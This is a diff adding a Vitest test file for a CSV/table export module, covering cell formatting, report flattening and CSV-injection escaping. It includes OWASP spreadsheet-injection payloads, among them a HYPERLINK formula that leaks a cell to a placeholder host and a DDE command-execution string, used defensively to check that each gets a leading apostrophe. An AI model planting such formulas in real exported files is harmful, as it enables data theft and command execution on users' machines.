@@ -1,0 +1,47 @@
+import { describe, expect, it } from 'vitest';
+import { cellText, csvText, neutralize, NONE, num, sectionsAsTable, toCsv } from './table';
+
+describe('table cells', () => {
+  it('show as text on screen and as plain values in CSV', () => {
+    expect(cellText(num(1000, '円'))).toBe('1,000円');
+    expect(csvText(num(1000, '円'))).toBe('1000');
+    expect(cellText({ date: '2026-10-01' })).toBe('2026/10/01');
+    expect(csvText({ date: '2026-10-01' })).toBe('2026/10/01');
+    expect(cellText(num(87.54, '%'))).toBe('87.5%');
+    expect(csvText(num(87.54, '%'))).toBe('87.5');
+    expect(cellText(NONE)).toBe('—');
+    expect(csvText(NONE)).toBe('');
+  });
+
+  // OWASP CSV injection: each payload is shown as text by Excel and LibreOffice.
+  it.each([
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")',
+    '@SUM(1+1)',
+    "+cmd|' /C calc'!A0",
+    '-1+1',
+    '\t=1+1',
+    '\r=1+1',
+  ])('writes %j with a leading apostrophe', (payload) => {
+    expect(neutralize(payload)).toBe(`'${payload}`);
+    const csv = toCsv(['氏名'], [[payload]]);
+    expect(csv.split('\r\n')[1]?.startsWith(`"'`)).toBe(true);
+  });
+
+  it('leaves ordinary text, numbers and dates alone', () => {
+    expect(neutralize('山田 太郎')).toBe('山田 太郎');
+    expect(neutralize('2026-0001')).toBe('2026-0001');
+    expect(toCsv(['a', 'b'], [[num(-500, '円'), { date: '2026-01-02' }]])).toBe('"a","b"\r\n"-500","2026/01/02"\r\n');
+  });
+
+  it('flattens report sections into one table whose first line is its header', () => {
+    const t = sectionsAsTable([
+      { title: '主な数値', header: ['項目', '当期', '前期'], rows: [['受付', num(3, '件'), num(1, '件')]] },
+      { title: '種類別', header: ['項目', '当期', '前期'], rows: [['開示', num(2, '件'), NONE]] },
+    ]);
+    expect(t.header).toEqual(['区分', '項目', '単位', '当期', '前期']);
+    expect(t.rows).toEqual([
+      ['主な数値', '受付', '件', num(3, '件'), num(1, '件')],
+      ['種類別', '開示', '件', num(2, '件'), NONE],
+    ]);
+  });
+});
